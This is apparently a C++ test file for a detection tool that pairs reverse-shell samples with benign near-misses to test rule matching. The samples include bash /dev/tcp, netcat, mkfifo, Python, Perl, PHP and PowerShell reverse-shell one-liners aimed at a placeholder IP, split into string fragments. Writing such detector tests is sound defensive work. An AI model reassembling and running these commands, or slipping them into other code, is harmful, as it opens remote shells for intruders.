#include "tests/rules/samples.h"

namespace weir {

std::vector<RuleSample> reverse_shell_samples() {
  const std::string sh = "#!/bin/sh\n", dev =
                                            "/dev/t"
                                            "cp/192.0.2.1/4444";
  const std::string py =
      "s=socket."
      "socket()\nos.du"
      "p2(s.fileno(),0)\n";
  const std::string ps =
      "$c=New-Object Net.Sock"
      "ets.TCPClient('a',1);$s=$c.Get"
      "Stream();$s.Read($b,0,9);";
  return {
      {"weir_shell_reverse_shell", sh + "bash -i >& " + dev + " 0>&1\n",
       sh + "echo > " + dev + "\n"},
      {"weir_shell_reverse_shell",
       sh + "nc -e /bin/"
            "sh 192.0.2.1 99\n",
       sh + "nc -l 99 > file\n"},
      {"weir_shell_reverse_shell",
       sh + "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 9",
       sh + "mkfifo /tmp/f; cat /tmp/f | nc 192.0.2.1 9"},
      // A long article may quote it.
      {"weir_shell_reverse_shell", "bash -i >& " + dev + " 0>&1",
       "bash -i >& " + dev + " 0>&1" + std::string(4000, '.')},
      {"weir_language_reverse_shell",
       py + "pty.sp"
            "awn('/bin/sh')",
       py + "print('/bin/sh')"},
      {"weir_language_reverse_shell",
       "sock"
       "et(S,PF_INET,SOCK_STREAM,6);open(ST"
       "DIN,'>&S');ex"
       "ec('/bin/sh -i');",
       "sock"
       "et(S,PF_INET,SOCK_STREAM,6);print S 'x';"},
      {"weir_language_reverse_shell",
       "$s=fsock"
       "open('192.0.2.1',9);ex"
       "ec('sh -i <&3');",
       "$s=fsock"
       "open('192.0.2.1',9);fwrite($s, 'x');"},
      {"weir_powershell_reverse_shell", ps + "$o=(iex $d|Out-String);[Text]::ASCII.GetBytes($o)",
       ps + "Write-Host $b"},
  };
}

}  // namespace weir
